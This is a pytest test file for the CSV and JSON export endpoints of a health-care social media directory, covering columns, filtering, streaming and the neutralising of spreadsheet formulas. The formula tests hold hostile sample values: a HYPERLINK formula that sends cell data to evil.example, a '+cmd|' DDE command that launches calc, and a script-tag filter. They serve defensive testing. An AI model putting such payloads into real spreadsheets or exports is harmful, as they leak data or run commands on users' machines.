"""/list/export.csv and /list/export.json, and the spreadsheet-safe cells behind them."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import CAST
from hcsm.directory import exports
from hcsm.directory.exports import FIELDS, csv_stream, export_rows, safe_cell
from hcsm.directory.models import Organization
from hcsm.directory.platforms import PLATFORMS
from hcsm.directory.tests.factories import make_org

CSV = "/list/export.csv"
JSON = "/list/export.json"


@pytest.fixture
def orgs(db):  # type: ignore[no-untyped-def]
    return {
        "mayo": make_org(
            name="Mayo Clinic",
            other_names=["Mayo", "Mayo Clinic Health System"],
            kind="health_system",
            countries=["US"],
            regions=["US-MN", "US-AZ"],
            city="Rochester",
            website="https://www.mayoclinic.org/",
            wikidata="Q1127387",
            ccn="240010",
            accounts=[
                {"value": "https://twitter.com/MayoClinic?s=20"},
                {"value": "https://x.com/MayoCancerCare", "label": "Cancer Center"},
                {"value": "https://www.facebook.com/MayoClinic/"},
                {"platform": "instagram", "value": "@mayoclinic"},
            ],
        ),
        "cleveland": make_org(
            name="Cleveland Clinic",
            kind="hospital",
            countries=["US"],
            accounts=[{"value": "https://www.youtube.com/@ClevelandClinic"}],
        ),
        "charite": make_org(
            name="Charité – Universitätsmedizin Berlin",
            kind="hospital",
            countries=["DE"],
            accounts=[{"platform": "instagram", "value": "charite.berlin"}],
        ),
    }


def read_csv(response) -> tuple[str, list[dict[str, str]]]:  # type: ignore[no-untyped-def]
    raw = b"".join(response.streaming_content).decode("utf-8")
    return raw, list(csv.DictReader(io.StringIO(raw.removeprefix("\ufeff"))))


def read_json(response) -> dict:  # type: ignore[no-untyped-def,type-arg]
    return json.loads(b"".join(response.streaming_content).decode("utf-8"))


# CSV ----------------------------------------------------------------------------------------


def test_csv_has_a_bom_a_header_and_one_row_per_organization(client, orgs):
    response = client.get(CSV)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="hcsm-list.csv"'
    raw, rows = read_csv(response)
    assert raw.startswith("\ufeff")
    header = next(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))
    assert header == [*FIELDS, *PLATFORMS, "account_status"]
    assert [int(r["id"]) for r in rows] == sorted(o.pk for o in orgs.values())
    mayo = next(r for r in rows if r["name"] == "Mayo Clinic")
    assert mayo["slug"] == orgs["mayo"].slug
    assert mayo["other_names"] == "Mayo | Mayo Clinic Health System"
    assert mayo["kind"] == "health_system"
    assert mayo["countries"] == "US"
    assert mayo["regions"] == "US-MN | US-AZ"
    assert mayo["city"] == "Rochester"
    assert mayo["website"] == "https://www.mayoclinic.org/"
    assert mayo["wikidata"] == "Q1127387"
    assert mayo["ccn"] == "240010"
    assert mayo["url"] == f"http://testserver/list/{orgs['mayo'].slug}/"
    # Accounts in per-platform columns; several on one platform share the column.
    assert mayo["x"] == "https://x.com/MayoClinic https://x.com/MayoCancerCare"
    assert mayo["facebook"] == "https://www.facebook.com/MayoClinic"
    assert mayo["instagram"] == "https://www.instagram.com/mayoclinic/"
    assert mayo["youtube"] == ""
    cleveland = next(r for r in rows if r["name"] == "Cleveland Clinic")
    assert cleveland["youtube"] == "https://www.youtube.com/@ClevelandClinic"
    assert cleveland["x"] == ""


def test_csv_keeps_unicode(client, orgs):
    raw, rows = read_csv(client.get(CSV))
    assert "Charité – Universitätsmedizin Berlin" in [r["name"] for r in rows]


def test_csv_is_filtered_like_the_grid(client, orgs):
    _, rows = read_csv(client.get(f"{CSV}?country=US&ordering=name"))
    assert sorted(r["name"] for r in rows) == ["Cleveland Clinic", "Mayo Clinic"]
    _, rows = read_csv(client.get(f"{CSV}?platform=instagram&kind=hospital"))
    assert [r["name"] for r in rows] == ["Charité – Universitätsmedizin Berlin"]
    _, rows = read_csv(client.get(f"{CSV}?q=nothing-like-this"))
    assert rows == []


def test_csv_leaves_out_hidden_organizations(client, orgs):
    Organization.objects.filter(pk=orgs["mayo"].pk).update(status="hidden")
    _, rows = read_csv(client.get(CSV))
    assert "Mayo Clinic" not in [r["name"] for r in rows]
    assert len(rows) == 2


def test_ids_are_stable(client, orgs):
    _, first = read_csv(client.get(CSV))
    make_org(name="Aaa First By Name")
    Organization.objects.filter(pk=orgs["cleveland"].pk).delete()
    _, second = read_csv(client.get(CSV))
    by_id_first = {r["id"]: r["name"] for r in first}
    by_id_second = {r["id"]: r["name"] for r in second}
    for pk, name in by_id_second.items():
        if pk in by_id_first:
            assert by_id_first[pk] == name
    assert by_id_second[str(orgs["mayo"].pk)] == "Mayo Clinic"
    # Rows come in id order, whatever the ordering asked for, so diffs between exports are small.
    _, by_name = read_csv(client.get(f"{CSV}?ordering=name"))
    assert [r["id"] for r in by_name] == sorted((r["id"] for r in by_name), key=int)


# JSON ---------------------------------------------------------------------------------------


def test_json_parses_with_meta_and_organizations(client, orgs):
    response = client.get(f"{JSON}?country=US")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="hcsm-list.json"'
    data = read_json(response)
    assert data["meta"]["source"] == "The Health Care Social Media List"
    assert data["meta"]["filter"] == {"country": "US"}
    assert "generated" in data["meta"]
    assert [o["name"] for o in data["organizations"]] == ["Mayo Clinic", "Cleveland Clinic"]
    mayo = data["organizations"][0]
    assert mayo["id"] == orgs["mayo"].pk
    assert mayo["countries"] == ["US"]
    assert mayo["regions"] == ["US-MN", "US-AZ"]
    assert mayo["other_names"] == ["Mayo", "Mayo Clinic Health System"]
    assert mayo["url"] == f"http://testserver/list/{orgs['mayo'].slug}/"
    assert {(a["platform"], a["handle"], a["label"]) for a in mayo["accounts"]} == {
        ("x", "MayoClinic", ""),
        ("x", "MayoCancerCare", "Cancer Center"),
        ("facebook", "MayoClinic", ""),
        ("instagram", "mayoclinic", ""),
    }


def test_json_with_nothing_matching_still_parses(client, orgs):
    data = read_json(client.get(f"{JSON}?q=nothing-like-this"))
    assert data["organizations"] == []


def test_json_keeps_unicode_and_escapes_nothing_dangerous(client, orgs):
    raw = b"".join(client.get(JSON).streaming_content).decode("utf-8")
    assert "Charité – Universitätsmedizin Berlin" in raw
    assert json.loads(raw)


# Spreadsheet formulas -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("|calc", "'|calc"),
        ("Mayo Clinic", "Mayo Clinic"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
        (-1, "'-1"),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_a_formula_in_the_data_is_defused_in_the_csv(client, orgs):
    # Validation refuses names that start a formula; legacy or imported rows may still hold one.
    Organization.objects.filter(pk=orgs["mayo"].pk).update(
        name='=HYPERLINK("http://evil.example/?"&A1,"Mayo")',
        other_names=["+cmd|' /C calc'!A0", "Mayo"],
        city="@SUM(1+1)",
    )
    raw, rows = read_csv(client.get(CSV))
    mayo = next(r for r in rows if r["id"] == str(orgs["mayo"].pk))
    assert mayo["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Mayo")'
    assert mayo["other_names"] == "'+cmd|' /C calc'!A0 | Mayo"
    assert mayo["city"] == "'@SUM(1+1)"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell
    # JSON is data, not a spreadsheet: it keeps the value as stored.
    data = read_json(client.get(JSON))
    stored = next(o for o in data["organizations"] if o["id"] == orgs["mayo"].pk)
    assert stored["name"] == '=HYPERLINK("http://evil.example/?"&A1,"Mayo")'


def test_csv_stream_defuses_every_column():
    record = (
        *("=1+1" if f not in ("other_names", "countries", "regions") else ["=1+1"] for f in FIELDS),
        [
            ("x", "h", "=1+1", "", "not_found", "2026-11-30", ""),
            ("facebook", "=1+1", "=1+1", "", "renamed", None, "=1+1"),
        ],
    )
    text = "".join(csv_stream([record]))
    header, cells = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    assert len(cells) == len(FIELDS) + len(PLATFORMS) + 1
    assert all(c in ("'=1+1", "") for c in cells[:-1])
    assert cells[-1] == "X (Twitter) h: not found since 2026-11-30 | Facebook =1+1: renamed to =1+1"
    assert cells[len(FIELDS) + list(PLATFORMS).index("x")] == "'=1+1"


def test_export_rows_queries_are_constant(db, django_assert_max_num_queries):
    for i in range(30):
        make_org(accounts=[{"platform": "x", "value": f"exportq{i}"}], regions=["US-MN"])
    with django_assert_max_num_queries(6):
        rows = list(export_rows(Organization.objects.all(), "http://testserver"))
    assert len(rows) == 30


# Bad filters and the cast -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("country=XX", "Country: “XX” is not an ISO 3166-1 country code"),
        ("region=US-XX", "Region: “US-XX” is not an ISO 3166-2 region code"),
        ("kind=spaceship", "Kind: Select a valid choice. spaceship is not one of"),
        ("platform=myspace", "Has an account on: Select a valid choice."),
        ("ordering=random", "Sort by: Select a valid choice."),
        ("q=" + "x" * 10_000, "Search: Ensure this value has at most 100 characters"),
    ],
)
def test_invalid_filter_is_400_with_a_message(client, orgs, query, message):
    response = client.get(f"{CSV}?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()

    response = client.get(f"{JSON}?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    errors = json.loads(response.content)["errors"]
    assert any(message in e for e in errors)


def test_a_script_in_a_bad_filter_is_not_served_as_html(client, orgs):
    response = client.get(CSV, {"country": "<script>alert(1)</script>"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")


@pytest.mark.parametrize("role", CAST)
def test_the_whole_cast_may_export(client_for, orgs, role):
    client = client_for(role)
    _, rows = read_csv(client.get(CSV))
    assert len(rows) == 3
    assert len(read_json(client.get(JSON))["organizations"]) == 3


def test_streams_come_in_pieces_of_many_rows(db, monkeypatch):
    for i in range(7):
        make_org(accounts=[{"platform": "x", "value": f"piece{i}"}])
    rows = list(export_rows(Organization.objects.all(), "http://testserver"))
    monkeypatch.setattr(exports, "BATCH", 3)
    csv_pieces = list(csv_stream(exports.export_records(Organization.objects.all(), "")))
    json_pieces = list(exports.json_stream(rows, {}))
    # BOM and header, then 3 + 3 + 1 rows; the JSON has its head, 3 + 3, and 1 with its tail.
    assert [p.count("\r\n") for p in csv_pieces] == [1, 3, 3, 1]
    assert len(json_pieces) == 4
    assert len(json.loads("".join(json_pieces))["organizations"]) == 7


@pytest.mark.parametrize(
    ("raw", "iso"),
    [
        ("2016-07-14 06:51:24.123456", "2016-07-14T06:51:24.123456+00:00"),  # SQLite
        ("2016-07-14 06:51:24", "2016-07-14T06:51:24+00:00"),
        ("2016-07-14 06:51:24.85015+00", "2016-07-14T06:51:24.850150+00:00"),  # PostgreSQL
        ("2016-07-14 06:51:24+00", "2016-07-14T06:51:24+00:00"),
        ("2016-07-14 08:51:24.5+02", "2016-07-14T06:51:24.500000+00:00"),  # another zone
    ],
)
def test_timestamps_read_as_text_come_out_as_isoformat_in_utc(raw, iso):
    assert exports._timestamp(raw) == iso
